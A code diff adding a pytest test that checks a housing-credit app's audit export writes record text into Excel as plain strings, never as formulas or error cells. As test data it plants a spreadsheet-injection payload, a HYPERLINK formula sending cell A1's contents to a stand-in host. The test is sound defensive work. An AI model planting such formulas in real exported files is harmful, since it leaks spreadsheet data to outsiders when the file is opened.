@@ -280,3 +280,21 @@ def test_issue18_every_sort_is_served_by_an_index_of_its_table():
             orders += [[c.name] for c in table.columns if c.unique]
             assert any(o[:len(names)] == names or (o == names[:-1] and names[-1] == "id") for o in orders), \
                 (spec.name, sort.name, names)
+
+
+def test_spec11_exported_text_is_never_written_as_a_formula(app, client):
+    """Text from the records goes into the workbook as text: a value starting with "=" (which openpyxl would
+    write as a formula, run when the file is opened) or reading like an Excel error stays a string cell."""
+    import zipfile
+    from housingcredit.audit import service as audit
+    hostile = '=HYPERLINK("http://example.invalid/?q="&A1,"click")'
+    audit.record("export.masked", "list", "archives", actor=(None, hostile))
+    audit.record("export.masked", "list", "archives", actor=(None, "#N/A"))
+    db.session.commit()
+    login(client, make_user("auditor", "420000"))
+    resp = client.get("/workbench/audit/export.xlsx?action=export.masked")
+    with zipfile.ZipFile(io.BytesIO(resp.get_data())) as z:
+        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
+    assert sheets and not any("<f>" in s or "<f " in s or 't="e"' in s for s in sheets)
+    actors = [r[2] for r in _sheet(resp)[1:]]
+    assert hostile in actors and "#N/A" in actors
